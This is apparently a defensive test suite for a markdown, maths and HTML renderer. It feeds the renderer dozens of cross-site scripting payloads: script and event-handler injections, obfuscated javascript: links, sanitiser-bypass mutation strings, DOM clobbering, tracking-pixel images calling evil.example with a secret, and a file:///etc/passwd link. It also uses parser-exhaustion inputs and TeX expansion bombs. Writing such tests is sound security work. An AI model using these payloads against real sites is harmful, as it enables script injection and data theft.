// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { markdown } from "../../src/render/markdown";
import { drawMaths, loadMaths } from "../../src/render/maths";
import { sanitizeHtml } from "../../src/render/sanitize";
import { Shown } from "./support";

const elements = new Set(
  ("a br code em kbd s span strong sub sup div p h3 h4 h5 h6 ul ol li blockquote hr pre button table thead tbody tr th td " +
    "math semantics mfrac mi mn mo mover mpadded mphantom mroot mrow mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr " +
    "munder munderover menclose").split(" "),
);
const ownAttributes = new Set("href target rel title class role aria-label tabindex type start".split(" "));
const mathAttributes = new Set(
  ("accent accentunder columnalign columnlines columnspacing depth display displaystyle fence height largeop linebreak " +
    "linethickness lspace mathbackground mathcolor mathsize mathvariant maxsize minsize notation rowlines rowspacing rspace " +
    "scriptlevel separator stretchy voffset width xmlns").split(" "),
);

/** Everything on the page that is not one of the few things an answer may consist of. */
function strangers(root: Element): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => {
    const name = element.localName;
    const isMath = element.namespaceURI === "http://www.w3.org/1998/Math/MathML";
    const found = elements.has(name) && (isMath || element.namespaceURI === "http://www.w3.org/1999/xhtml") ? [] : [name];
    const allowed = isMath ? mathAttributes : ownAttributes;
    for (const { name: attribute, value } of element.attributes) {
      if (!allowed.has(attribute)) found.push(`${name} ${attribute}="${value}"`);
      if (attribute === "href" && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`${name} ${attribute}="${value}"`);
      if (attribute === "class" && !/^(md-|hl-)[a-z-]+( md-[a-z-]+)*$/.test(value)) found.push(`${name} class="${value}"`);
    }
    if (name === "button" && !element.matches(".md-code-bar > button.md-copy")) found.push("button");
    if (name === "a" && element.getAttribute("rel") !== "noopener noreferrer nofollow") found.push("a without rel");
    return found;
  });
}

const hostile: Record<string, string> = {
  script: "<script>alert(1)</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\nx <script\n>alert(1)</script\n>",
  handlers: '<img src=x onerror=alert(1)>\n\n<svg/onload=alert(1)>\n\n<body onload="alert(1)">\n\n<details open ontoggle=alert(1)>x</details>',
  frames: '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x><embed src=x><base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  forms: "<form action=//evil.example><input name=attributes autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button><textarea>",
  styles: '<style>body{display:none}</style>\n\n<link rel=stylesheet href=//evil.example/x.css>\n\n<p style="position:fixed;inset:0">x</p>\n\n<div class="composer" id="app">',
  clobbering: '<a id=app name=body href=//x>x</a><img name=getElementById><form id=document><input name=cookie>',
  "javascript links": [
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\nscript:alert(1))", "[a](java&#10;script:alert(1))",
    "[a](&#106;avascript:alert(1))", "[a](&#x6A;&#x61;vascript:alert(1))", "[a](javascript&colon;alert(1))", "[a](\u0001javascript:alert(1))",
    "[a](<javascript:alert(1)>)", "[a]( javascript:alert(1))", "[a](\\javascript:alert(1))", "[a](javascript://example.com/%0aalert(1))",
    "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "[a][j]\n\n[j]: javascript:alert(1)", "[a](java%0ascript:alert(1))", "javascript:alert(1)",
    "[a](\u00a0javascript:alert(1))", "[a](jav\tascript:alert(1))", "[a](jav&Tab;ascript:alert(1))", "[a](jav&NewLine;ascript:alert(1))",
  ].join("\n\n"),
  "other schemes": [
    "[a](data:text/html,<script>alert(1)</script>)", "![a](data:image/svg+xml;base64,PHN2Zz4=)", "[a](vbscript:msgbox(1))", "[a](file:///etc/passwd)",
    "[a](blob:https://x/y)", "[a](ftp://x/y)", "<data:text/html,x>", "[a](//evil.example)", "[a](/v1/models)", "[a](#app)", "[a](tel:1)", "[a](view-source:http://x)",
    "[a](intent://x#Intent;end)", "[a](about:blank)", "[a](?x)", "[a]()", "![x](//evil.example/i.png)", "![x](/v1/x)", "[a](http:)", "[a](https:/\\evil)",
  ].join("\n\n"),
  images: "![x](https://evil.example/pixel.png?q=secret)\n\n[![x](https://evil.example/i.svg)](https://evil.example)\n\n![x][i]\n\n[i]: https://evil.example/j.gif 'title\" onerror=alert(1)'",
  titles: "[a](https://x.example 'y\" onmouseover=\"alert(1)')\n\n[a](https://x.example \"<img src=x onerror=alert(1)>\")",
  "markdown in html": '<div onclick="alert(1)">\n\n**bold** [x](javascript:alert(1))\n\n</div>\n\n<a href="javascript:alert(1)">*x*</a>',
  "html in code": "`<img src=x onerror=alert(1)>`\n\n```html\n<script>alert(1)</script></code></pre><script>alert(2)</script>\n```\n\n    <script>alert(3)</script>",
  "code labels": '```"><img/src=x/onerror=alert(1)>\nx\n```\n\n~~~ js" onclick="alert(1)\nx\n~~~\n\n```__proto__\nx\n```\n\n```constructor\nx\n```',
  tables: '| <img src=x onerror=alert(1)> | a |\n|---|:-:|\n| [x](javascript:alert(1)) | <style>*{color:red}</style> |',
  entities: "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt;",
  "broken markup": '<a href="x<img src=x onerror=alert(1)>\n\n<<script>alert(1)//<</script>\n\n<!--><script>alert(1)</script>-->\n\n<![CDATA[<script>alert(1)</script>]]>\n\n<?xml-stylesheet href="javascript:alert(1)"?>',
  namespaces: "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">\n\n<svg><style><img src=x onerror=alert(1)></style></svg>\n\n<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
  "few tags": "<sub><img src=x onerror=alert(1)></sub> <sub onclick=alert(1)>x</sub> <sup>&lt;script&gt;</sup> <kbd>**x**</kbd> <br onclick=alert(1)> <br/onload=x>",
  "labels of links": "[__proto__] [constructor] [x]\n\n[__proto__]: javascript:alert(1)\n[constructor]: https://a.example\n[x]: data:text/html,x",
  directions: "\u202Eevil\u202C <bdo dir=rtl>x</bdo>",
  formulas: [
    "\\href{javascript:alert(1)}{x}", "\\url{javascript:alert(1)}", "\\includegraphics{https://evil.example/x.png}", "\\htmlClass{composer}{x}",
    "\\htmlId{app}{x}", "\\htmlStyle{position:fixed}{x}", "\\htmlData{x=y}{x}", "\\text{<script>alert(1)</script>}", "\\text{</math><img src=x onerror=alert(1)>}",
    "\\color{red;position:fixed}x", "\\colorbox{url(//evil.example)}{x}", "\\fcolorbox{red}{blue}{x}", "\\rule{9999em}{9999em}", "\\raisebox{9999em}{x}",
    "\\unicode{<script>}", "x\\kern{9999em}y", "\\boldsymbol{\\mathllap{x}}", "\\begin{matrix}a&b\\\\c&d\\end{matrix}", "\\pmb{x}\\cancel{y}\\boxed{z}\\tag{1}",
  ].map((tex) => `$$${tex}$$`).join("\n\n"),
};

describe("nothing of an answer can run, load or restyle", () => {
  it.each(Object.entries(hostile))("%s", async (_name, text) => {
    await loadMaths();
    for (const size of [text.length, 7]) {
      const shown = new Shown();
      for (let at = 0; at < text.length; at += size) shown.add(text.slice(at, at + size));
      expect(strangers(shown.root)).toEqual([]);
    }
  });

  it("shows hostile text as the text that it is", () => {
    const { root } = new Shown('<script>alert(1)</script>\n\n<img src=x onerror="alert(1)">');
    expect(root.textContent).toBe('<script>alert(1)</script><img src=x onerror="alert(1)">');
  });

  it("would find a stranger", () => {
    const root = document.createElement("div");
    root.innerHTML = '<img src="x"><a href="javascript:1">x</a><p style="color:red" id="x" class="composer">x</p>';
    expect(strangers(root)).toHaveLength(7);
  });
});

describe("what a library writes is sanitised", () => {
  it.each([
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg><g onload=alert(1)></g></svg>", "<p style='x'>y</p>", "<a href=' javascript:alert(1)'>x</a>",
    "<form id=x><input name=attributes></form>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<math><maction actiontype=statusline href='javascript:1'>x</maction></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<template><script>alert(1)</script></template>", "<xmp><img src=x onerror=alert(1)></xmp>", "<a name=body id=app class=composer>x</a>", "<b is=x-y>z</b>",
    "<div><!--<img src=x onerror=alert(1)>--></div>", "<math><mglyph src='https://evil.example/x.png'></mglyph></math>", "<math href='javascript:1'><mi>x</mi></math>",
  ])("%s", (html) => {
    const root = document.createElement("div");
    root.append(sanitizeHtml(html));
    for (const link of root.querySelectorAll("a")) link.setAttribute("rel", "noopener noreferrer nofollow");
    expect(strangers(root)).toEqual([]);
  });
});

describe("sizes made to hurt", () => {
  /** Markdown's own time for texts of 4,000 and 16,000 marks: a square would be 16 times, a line 4. */
  const growing: Record<string, (count: number) => string> = {
    quotes: (count) => ">".repeat(count) + " x",
    "nested lists": (count) => Array.from({ length: Math.sqrt(count) }, (_, depth) => " ".repeat(2 * depth) + "- x").join("\n"),
    "list marks on a line": (count) => "- ".repeat(count) + "x",
    stars: (count) => "*".repeat(count) + "x" + "*".repeat(count),
    "pairs of stars": (count) => "*a **b ".repeat(count / 4),
    underscores: (count) => "_a __b".repeat(count / 4),
    tildes: (count) => "~~a".repeat(count / 2),
    "opening brackets": (count) => "[".repeat(count),
    brackets: (count) => "[a](".repeat(count / 4),
    "nested images": (count) => "![".repeat(count / 2) + "x" + "](https://x.example)".repeat(count / 20),
    backticks: (count) => Array.from({ length: Math.sqrt(count) }, (_, size) => "`".repeat(size) + " ").join(""),
    dollars: (count) => "$a ".repeat(count / 3),
    "dollars that hug": (count) => "$a$b".repeat(count / 4),
    "openers of formulas": (count) => "\\(".repeat(count / 2),
    "lines of openers": (count) => "\\[\n".repeat(count / 3),
    addresses: (count) => "https://a.b/".repeat(count / 12),
    "at signs": (count) => "a@".repeat(count / 2),
    entities: (count) => "&a".repeat(count / 2),
    tags: (count) => "<a ".repeat(count / 3),
    subscripts: (count) => "<sub>".repeat(count / 5),
    bars: (count) => "|".repeat(count) + "\n" + "|-".repeat(count / 2) + "|\n",
    definitions: (count) => "[a]: b\n".repeat(count / 7),
    escapes: (count) => "\\".repeat(count),
    "blank lines": (count) => "\n \n".repeat(count / 3) + "x",
  };

  it.each(Object.entries(growing))("%s take no more than their share", (_name, make) => {
    const text = make(16_000);
    const steps = countSteps(() => markdown.render(text));
    const quarter = countSteps(() => markdown.render(make(4_000)));
    expect(steps).toBeLessThan(8 * quarter + 20_000);
  });

  it.each([
    ["quotes", ">".repeat(10_000) + " at the bottom"],
    ["lists", Array.from({ length: 300 }, (_, depth) => " ".repeat(2 * depth) + "- x").join("\n") + " at the bottom"],
    ["stars", "*".repeat(5000) + "at the bottom" + "*".repeat(5000)],
    ["brackets", "[".repeat(10_000) + "at the bottom" + "]".repeat(10_000)],
    ["links in images", "![".repeat(2000) + "at the bottom" + "](https://x.example)".repeat(2000)],
  ])("deep %s keep their text and stay shallow", (_name, text) => {
    const { root } = new Shown(text);
    expect(root.textContent).toContain("at the bottom");
    expect(Math.max(0, ...[...root.querySelectorAll("*")].map(depthOf))).toBeLessThan(120);
  });

  it("a table that fills itself up with cells stays small", () => {
    const { root } = new Shown("|a".repeat(1000) + "|\n" + "|-".repeat(1000) + "|\n" + "|x|\n".repeat(100));
    expect(root.querySelectorAll("*").length).toBeLessThan(8000);
  });

  it("formulas that grow without end are refused", async () => {
    await loadMaths();
    const bombs = [
      "\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\e\\e}\\def\\e{xxxxxxxx}" + "\\a".repeat(500),
      "\\def\\a{" + "x".repeat(1900) + "}" + "\\a".repeat(900),
      "\\def\\a{\\a\\a}\\a",
      "\\newcommand\\a{\\a x}\\a",
      "{".repeat(3000),
      "\\frac1".repeat(700),
      "x^".repeat(1900) + "x",
      "\\sqrt{".repeat(600) + "x" + "}".repeat(600),
    ];
    for (const tex of bombs) {
      const drawn = drawMaths(tex, true);
      expect((drawn?.textContent ?? "").length, tex.slice(0, 40)).toBeLessThan(60_000);
    }
    expect(drawMaths("\\newcommand{\\half}{\\frac12}\\half+\\half", true)).not.toBeNull();
  });
});

function depthOf(element: Element): number {
  let depth = 0;
  for (let at: Element | null = element; at; at = at.parentElement) depth++;
  return depth;
}

/** Work, as the number of characters that the parser looks at: times are not to be trusted on a busy machine. */
function countSteps(work: () => void): number {
  const { charCodeAt } = String.prototype;
  let steps = 0;
  String.prototype.charCodeAt = function (this: string, at: number) {
    steps++;
    return charCodeAt.call(this, at);
  };
  try {
    work();
  } finally {
    String.prototype.charCodeAt = charCodeAt;
  }
  return steps;
}
